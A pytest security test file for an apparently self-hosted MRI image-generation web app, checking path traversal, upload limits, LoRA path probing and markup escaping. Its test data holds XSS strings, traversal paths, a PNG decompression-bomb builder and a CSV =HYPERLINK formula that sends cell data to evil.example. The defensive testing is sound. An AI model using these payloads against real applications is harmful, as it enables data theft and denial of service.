"""Issue 16, the web page: what `dallebrain serve` must never hand out, store or render, each reproduced against a
live server on a free loopback port (tiny pipeline, tiny prepared data set) or the handler the page calls."""

import csv
import html
import io
import os
import socket
import sqlite3
import struct
import zlib
from pathlib import Path

import numpy as np
import pytest
from markdown_it import MarkdownIt
from PIL import Image

from dallebrain.app import handlers as h
from dallebrain.app.study import Study
from dallebrain.app.untrusted import csv_cell, lora_adapters, markdown_text

gradio = pytest.importorskip("gradio")
httpx = pytest.importorskip("httpx")
gradio_client = pytest.importorskip("gradio_client")

PROMPT = "axial T2-weighted slice of a healthy 70-year-old woman at the level of the lateral ventricles"
MAX_UPLOAD_MB = 1
NASTY_TEXT = ["<b>x</b>", "<img src=x onerror=alert(1)>", "[click](http://evil.example/)", "![t](http://evil/t.png)",
              "**bold** _it_ `code`", "$$x^2$$", "http://evil.example", "www.evil.example", "a@b.example",
              "# heading", "> quote", "| a | b |", "&lt;b&gt; &amp;", "back\\slash", "Dr O'Neil \"Ada\""]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def lora_dir(tiny_pipeline, tmp_path_factory) -> Path:
    """A server LoRA folder with one real (zero-initialised) adapter, `brain-t2`, and a folder outside it that
    holds a pickle file, which the old LoRA box walked into and named in its message."""
    from diffusers import StableDiffusionPipeline, UNet2DConditionModel
    from diffusers.utils import convert_state_dict_to_diffusers
    from peft import LoraConfig
    from peft.utils import get_peft_model_state_dict

    root = tmp_path_factory.mktemp("lora")
    unet = UNet2DConditionModel.from_pretrained(tiny_pipeline / "unet")
    unet.add_adapter(LoraConfig(r=2, lora_alpha=2, target_modules=["attn2.to_q", "attn2.to_k"]))
    layers = convert_state_dict_to_diffusers(get_peft_model_state_dict(unet))
    StableDiffusionPipeline.save_lora_weights(root / "adapters" / "brain-t2", unet_lora_layers=layers,
                                              safe_serialization=True)
    (root / "outside" / "secret").mkdir(parents=True)
    (root / "outside" / "secret" / "patient-scan.pt").write_bytes(b"not for the page")
    (root / "adapters" / "escape").symlink_to(root / "outside", target_is_directory=True)
    return root


@pytest.fixture(scope="module")
def server(tiny_pipeline, tiny_prepared, lora_dir, tmp_path_factory):
    from dallebrain.app.ui import ServeConfig, launch

    root = tmp_path_factory.mktemp("serve")
    # this server's own gradio cache, so the tests can see what an upload left behind
    old_temp = os.environ.get("GRADIO_TEMP_DIR")
    os.environ["GRADIO_TEMP_DIR"] = str(root / "gradio")
    cfg = ServeConfig(model=tiny_pipeline, data=tiny_prepared, study_dir=root / "study", study_items=4,
                      study_steps=2, device="cpu", work_dir=root / "work", lora_dir=lora_dir / "adapters",
                      max_upload_mb=MAX_UPLOAD_MB)
    demo, url = launch(cfg, "127.0.0.1", _free_port(), block=False)
    yield url, cfg, root / "gradio"
    demo.close()
    if old_temp is None:
        os.environ.pop("GRADIO_TEMP_DIR", None)
    else:
        os.environ["GRADIO_TEMP_DIR"] = old_temp


# --- 1. the study folder is not reachable over HTTP ----------------------------------------------------------


def test_study_database_and_item_files_are_not_served(server):
    url, cfg, _ = server
    study = Path(cfg.study_dir).resolve()
    item = next((study / "images").glob("*.png"))
    attempts = [study / "study.sqlite", item, f"{study}/images/../study.sqlite",
                f"{Path(cfg.work_dir).resolve()}/../study/study.sqlite"]
    for path in attempts:
        response = httpx.get(f"{url}gradio_api/file={path}")
        assert response.status_code in (403, 404), path
        assert b"SQLite format 3" not in response.content and b"\x89PNG" not in response.content
    # the export and the per-request folders are not handed out by path either
    response = httpx.get(f"{url}gradio_api/file={Path(cfg.work_dir).resolve()}")
    assert response.status_code in (403, 404)


def test_a_reader_gets_pixels_under_an_opaque_name(server):
    url, cfg, _ = server
    client = gradio_client.Client(url, download_files=False, verbose=False)
    outputs = client.predict("Dr Web", api_name="/study_start")
    image = next(o for o in outputs if isinstance(o, dict) and o.get("url"))
    study = Path(cfg.study_dir)
    assert str(study.resolve()) not in image["url"] and "item-" not in image["url"]
    served = httpx.get(image["url"])
    assert served.status_code == 200
    pixels = np.asarray(Image.open(io.BytesIO(served.content)))
    items = [np.asarray(Image.open(p)) for p in (study / "images").glob("*.png")]
    assert any(pixels.shape == i.shape and np.array_equal(pixels, i) for i in items)


def test_organiser_results_need_the_code_over_http(server):
    url, _, _ = server
    client = gradio_client.Client(url, download_files=False, verbose=False)
    table, message = client.predict("not-the-code", api_name="/study_summary")
    assert table["data"] == [] and "wrong organiser code" in message
    csv_file, message = client.predict("not-the-code", api_name="/study_export")
    assert csv_file is None and "wrong organiser code" in message


# --- 2. uploads ---------------------------------------------------------------------------------------------


def test_oversize_upload_is_refused_and_not_kept(server):
    url, _, upload_dir = server
    big = b"\x89PNG" + bytes((MAX_UPLOAD_MB + 1) * 2**20)
    response = httpx.post(f"{url}gradio_api/upload", files={"files": ("huge.png", big)})
    assert response.status_code == 413 and "maximum allowed size" in response.text
    kept = [p for p in upload_dir.rglob("*") if p.is_file() and p.stat().st_size > MAX_UPLOAD_MB * 2**20]
    assert kept == []
    # the page knows the limit too: the browser refuses before sending, and the upload box says it
    config = httpx.get(f"{url}config").json()
    assert config["max_file_size"] == MAX_UPLOAD_MB * 2**20
    labels = [c["props"].get("label") or "" for c in config["components"]]
    assert any(f"at most {MAX_UPLOAD_MB} MB" in label for label in labels)


def test_variations_refuse_an_oversize_file_with_a_message(tmp_path):
    big = tmp_path / "slice.png"
    Image.fromarray(np.random.default_rng(0).integers(0, 255, (1100, 1100), dtype=np.uint8)).save(big)
    with pytest.raises(h.RequestError, match="uploads are limited to 1 MB") as caught:
        h.variations(str(big), model="unused", work_dir=tmp_path / "work", max_upload_mb=1)
    assert "\n" not in str(caught.value) and str(tmp_path) not in str(caught.value)


def _png_header(path: Path, side: int) -> Path:
    """A PNG whose header claims side x side pixels and holds a few rows: a decompression bomb, undecoded."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
                     + chunk(b"IDAT", zlib.compress(bytes((side + 1) * 4))) + chunk(b"IEND", b""))
    return path


def test_a_slice_too_large_to_decode_is_a_message(tiny_unclip, tmp_path):
    """api.load_slice refuses it from its header (ValueError); the page shows that line, not a server error."""
    bomb = _png_header(tmp_path / "scan.png", 30000)
    with pytest.raises(h.RequestError, match="scan.png") as caught:
        h.variations(str(bomb), n=1, steps=1, model=tiny_unclip, work_dir=tmp_path / "work", device="cpu",
                     max_upload_mb=1)
    assert "\n" not in str(caught.value) and str(tmp_path) not in str(caught.value)


# --- 7. LoRA names, not paths ---------------------------------------------------------------------------------


def _lora_refusal(lora, lora_dir) -> str:
    with pytest.raises(h.RequestError) as caught:
        h.generate(PROMPT, steps=1, lora=lora, lora_dir=lora_dir, model="unused", work_dir="unused")
    return str(caught.value)


def test_lora_paths_are_refused_without_naming_server_files(lora_dir):
    outside = lora_dir / "outside"
    adapters = lora_dir / "adapters"
    probes = [str(outside), str(lora_dir / "no-such-folder"), "/root", "../outside", "..", "brain-t2/../../outside",
              "~", "escape", f"{adapters}/brain-t2"]
    for configured in (None, adapters):
        messages = {probe: _lora_refusal(probe, configured) for probe in probes}
        for probe, message in messages.items():
            assert "\n" not in message and "patient-scan" not in message and "secret" not in message, probe
            assert str(lora_dir) not in message and "/root" not in message, probe
        # an existing outside folder and a missing one get the same answer: the box cannot probe the server
        assert messages[str(outside)] == messages[str(lora_dir / "no-such-folder")]
    assert _lora_refusal("brain-t2", None).startswith("LoRA adapters are off")
    assert "available: brain-t2" in _lora_refusal("escape", adapters)  # a link out of the folder is no adapter
    assert lora_adapters(adapters) == ["brain-t2"]


def test_a_named_adapter_is_used_and_downloads_name_no_server_path(tiny_pipeline, lora_dir, tmp_path):
    result = h.generate(PROMPT, steps=1, lora="brain-t2", lora_dir=lora_dir / "adapters", model=tiny_pipeline,
                        work_dir=tmp_path, device="cpu")
    sidecar = (result.folder / "seed-000000.json").read_text()
    assert '"path": "brain-t2"' in sidecar
    assert str(lora_dir) not in sidecar and str(tiny_pipeline) not in sidecar


# --- 8. names and messages are text; exported cells are not formulas ------------------------------------------


@pytest.mark.parametrize("text", NASTY_TEXT)
def test_markdown_text_renders_as_exactly_the_characters(text):
    rendered = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown_text(text))
    assert rendered.startswith("<p>") and rendered.endswith("</p>\n")
    inner = rendered[3:-5]
    assert "<" not in inner and html.unescape(inner) == text


def test_reader_name_with_markup_is_shown_as_text(server):
    url, _, _ = server
    name = "<b>x</b> [me](http://evil.example/)"
    client = gradio_client.Client(url, download_files=False, verbose=False)
    outputs = client.predict(name, api_name="/study_start")
    progress = next(o for o in outputs if isinstance(o, str) and "item 1 of" in o)
    assert "<b>" not in progress and "](http" not in progress
    rendered = MarkdownIt("commonmark").render(progress)
    assert "<a " not in rendered and html.unescape(rendered).startswith(f"<p><strong>{name}</strong>")


def test_refusal_messages_quote_input_as_text():
    from dallebrain.app.ui import _problem

    line = _problem(h.RequestError("unknown sampler '<img src=x onerror=alert(1)>'"))
    assert "<img" not in line and "&lt;img" in line


def test_export_cells_cannot_run_as_formulas(tiny_prepared, tmp_path):
    study = Study.create(tmp_path / "study", tiny_prepared, n_items=2, seed=3)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2", "@SUM(A1:A9)", "Dr Ada"]
    with sqlite3.connect(study.db) as con:
        item = con.execute("SELECT id FROM items").fetchone()[0]
    for name in names:
        study.submit(name, item, "real", 3, True, seconds=1.0)
    path = Path(h.study_export(study, study.organiser_code, tmp_path / "work"))
    with path.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["reader"] for r in rows] == ["'" + n for n in names[:4]] + ["Dr Ada"]
    assert {r["plausibility"] for r in rows} == {"3"} and {r["seconds"] for r in rows} == {"1.0"}
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert [p.name for p in path.parent.iterdir()] == [path.name]  # written whole, no temporary file left


@pytest.mark.parametrize(("cell", "expected"), [("=1+2", "'=1+2"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
                                                ("a=1", "a=1"), ("", ""), (-2.5, -2.5), (None, None)])
def test_csv_cell(cell, expected):
    assert csv_cell(cell) == expected


# --- optional login -------------------------------------------------------------------------------------------


def test_auth_puts_the_page_and_its_files_behind_a_login(tiny_pipeline, tmp_path):
    from dallebrain.app.ui import ServeConfig, launch

    cfg = ServeConfig(model=tiny_pipeline, work_dir=tmp_path / "work", auth=("organiser", "s3cret-pass"))
    demo, url = launch(cfg, "127.0.0.1", _free_port(), block=False)
    try:
        assert httpx.get(f"{url}config").status_code == 401
        assert httpx.post(f"{url}gradio_api/upload", files={"files": ("a.png", b"x")}).status_code == 401
        with httpx.Client() as browser:
            assert browser.post(f"{url}login", data={"username": "organiser", "password": "wrong"}).status_code == 400
            assert browser.post(f"{url}login", data={"username": "organiser",
                                                     "password": "s3cret-pass"}).status_code == 200
            assert browser.get(f"{url}config").status_code == 200
    finally:
        demo.close()
